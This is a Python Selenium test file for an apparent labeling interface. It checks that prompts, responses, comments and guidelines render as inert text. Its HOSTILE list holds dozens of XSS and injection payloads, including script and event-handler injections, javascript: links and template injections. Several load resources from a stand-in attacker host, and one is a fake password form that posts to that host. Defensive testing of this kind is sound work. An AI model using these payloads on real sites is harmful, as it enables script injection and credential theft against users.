"""Texts of others stay texts, wherever they are shown: nothing runs and nothing is loaded."""

import pytest
from selenium.webdriver.common.keys import Keys

from labeling_ui import display
from tests.browser.checks import outside_requests

pytestmark = pytest.mark.browser

# 198.51.100.0/24 is reserved for documentation: a request there is always a leak
EVIL = "http://198.51.100.7"
HOSTILE = [
    "<script>window.pwned=1</script>",
    f"<script src={EVIL}/1.js></script>",
    f"<img src={EVIL}/2.png onerror='window.pwned=2'>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4></svg>",
    "<svg><script>window.pwned=5</script></svg>",
    "<svg><animate onbegin=window.pwned=6 attributeName=x dur=1s>",
    f"<svg><image href={EVIL}/3.png /><use href={EVIL}/4.svg#x /></svg>",
    "<math><mtext></p><style><img src onerror=window.pwned=7></style></mtext></math>",
    f"<math href=javascript:window.pwned=8><mi xlink:href={EVIL}/5>x</mi></math>",
    "<iframe srcdoc='<script>parent.pwned=9</script>'></iframe>",
    f"<iframe src={EVIL}/6></iframe><frame src={EVIL}/7>",
    f"<object data={EVIL}/8></object><embed src={EVIL}/9>",
    f"<video src={EVIL}/10 autoplay onerror=window.pwned=10><audio src={EVIL}/11 autoplay>",
    f"<form action={EVIL}/12><input name=password><button>Log in again</button></form>",
    f"<style>*{{background:url({EVIL}/13)}} @import '{EVIL}/14.css';</style>",
    f"<link rel=stylesheet href={EVIL}/15.css><link rel=prefetch href={EVIL}/16>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/17'>",
    f"<base href={EVIL}/><a href=18>x</a>",
    "<body onload=window.pwned=11><details open ontoggle=window.pwned=12>",
    "<input autofocus onfocus=window.pwned=13><textarea autofocus onfocus=window.pwned=14>",
    "<a href='javascript:window.pwned=15'>click</a> [click](javascript:window.pwned=16)",
    "[x](data:text/html,<script>window.pwned=17</script>) <data:text/html,x>",
    "[x](JaVaScRiPt&colon;window.pwned=18) [y](java\nscript:window.pwned=19)",
    f"![i]({EVIL}/19.png) ![j][k]\n\n[k]: {EVIL}/20.png",
    f"[![i]({EVIL}/21.png)]({EVIL}/22) <{EVIL}/23> {EVIL}/24 www.evil.example a@evil.example",
    f"![i](//198.51.100.7/25.png) ![j](\\\\198.51.100.7\\26) <img srcset='{EVIL}/27 1x'>",
    "${window.pwned=20} ${alert`1`} `${window.pwned=21}` \\${window.pwned=22}",
    "{{constructor.constructor('window.pwned=23')()}} {{{this}}} {{#each value}}x{{/each}} {%x%}",
    "\\x \\u{zz} \\` ` ``` ```` ${",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.pwned=24>]-->B\n```",
    f"```html\n</code></pre><img src={EVIL}/28 onerror=window.pwned=25>\n```",
    "$$\\href{javascript:window.pwned=26}{x}$$ \\(\\includegraphics{x}\\) $\\def\\x{\\x\\x}\\x$",
    "&lt;script&gt;window.pwned=27&lt;/script&gt; &#60;img src=x onerror=window.pwned=28&#62;",
    "&#x3c;svg onload=window.pwned=29&#x3e; \\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
    "<<script>script>window.pwned=30<</script>/script> <scr<script>ipt>window.pwned=31",
    "<!--><img src=x onerror=window.pwned=32>--> <![CDATA[<script>window.pwned=33</script>]]>",
    "<?php x ?><%= x %><x-element onclick=window.pwned=34>x</x-element>",
    "\u202egnihtemos\u202c \u2066hidden\u2069 zero\u200bwidth \ufeff",
    "null",
    "undefined",
    "",
    "a\x00b \x1b[31mred\x07 \x7f",
    "<div id=board class=board><button class=submit>Submit</button></div>\n# board\n# cards\n# prompt",
    "x" * 20_000,
    "`" * 60 + "\n" + "~" * 60 + "\n> " * 40,
    "<div style='position:fixed;inset:0;background:red'>covers</div>",
    "<a ping=//198.51.100.7/29 href=#>x</a> <area ping=//198.51.100.7/30 href=#>",
    "</span></div></div></main><script>window.pwned=35</script>",
    "\U0001f600 \u0430dmin.com e\u0301" + "\u0301" * 40,
    "__proto__ constructor toString hasOwnProperty",
]
ACTING = ["img", "script", "iframe", "form", "style", "svg", "math", "video", "audio", "object"]
ACTING += ["embed", "link", "meta", "base"]


def check_nothing_happened(page):
    for tag in [
        *ACTING,
        "a",
        "textarea",
        "details",
        "button.submit",
        "[onclick]",
        "[style*=fixed]",
    ]:
        found = page.run(
            "return [...document.querySelectorAll(arguments[0])].filter(x => !x.closest("
            "'.code_wrap > button')).map(x => x.outerHTML)",
            f".md {tag}",
        )
        assert not found, (tag, found)
    assert page.run("return window.pwned") is None
    assert outside_requests(page) == []
    # not even tried: what the browser had to stop would be here
    assert page.complaints() == []


def test_prompts_and_responses_are_shown_as_they_are_and_do_nothing(site, page):
    texts = list(dict.fromkeys(HOSTILE))
    assert len(texts) >= 45
    size = 8 + 9
    for place, at in enumerate(range(0, len(texts), size)):
        part = texts[at : at + size]
        messages = [
            {"role": "assistant" if i % 2 else "user", "content": text}
            for i, text in enumerate(part[:8])
        ]
        site.ask(messages, part[8:], priority=-place)
    page.open(site.person())
    page.complaints()
    page.requests()
    script = """return [...document.querySelectorAll(arguments[0] + '.shown > .text.exact code')]
        .map(code => code.textContent.replace(/\\n$/, ''))"""
    for at in range(0, len(texts), size):
        part = [display.visible(text) or "(empty)" for text in texts[at : at + size]]
        page.until(lambda part=part: page.run(script, "#prompt .turn")[:1] == part[:1])
        assert page.run(script, "#prompt .turn") == part[:8]
        assert sorted(page.run(script, "#cards .card")) == sorted(part[8:])
        check_nothing_happened(page)
        page.press("m")
        page.until(lambda: page.seen("#cards .card .text.rendered"))
        check_nothing_happened(page)
        assert page.run("return document.documentElement.scrollWidth") <= 1280
        page.press("m", "s", "1")
    page.until(lambda: page.seen(".nothing"))


def test_ones_own_comment_guidelines_and_last_answers_do_nothing_either(site, page):
    texts = [text for text in HOSTILE if len(text) < 1000]
    site.guide(1, "\n\n".join(texts))
    for i, text in enumerate(texts[:9]):
        site.ask([{"role": "user", "content": text}], ["one", "two"], priority=-i)
    page.open(site.person())
    page.complaints()
    page.requests()
    whole = "\n".join(texts).replace("\x00", "")[:2000].encode("utf-8", "replace").decode()
    page.press("n")
    page.run(
        "const area = document.querySelector('#text-comment'); area.value = arguments[0];"
        "area.dispatchEvent(new Event('input', {bubbles: true}))",
        whole,
    )
    page.wait_saved()
    assert site.draft()["comment"] == whole
    page.reload()
    assert page.find("#text-comment").get_attribute("value") == whole
    for i in range(9):
        page.press(Keys.ESCAPE, "1", "2", Keys.ENTER)
        page.until(lambda i=i: page.find(".counted").text.startswith(f"{i + 1} done"))
        page.until(lambda: page.seen(".nothing") or page.tiers() == ["AB", "", ""])
        page.run("document.activeElement.blur()")
    page.find(".tools button:nth-of-type(3)").click()
    page.until(lambda: len(page.seen(".side.last .answer")) == 9)
    check_nothing_happened(page)
    page.press(Keys.ESCAPE)
    page.find(".tools button:nth-of-type(2)").click()
    page.until(lambda: page.seen(".side.guide"))
    check_nothing_happened(page)
    assert site.saved()[0]["comment"] == whole
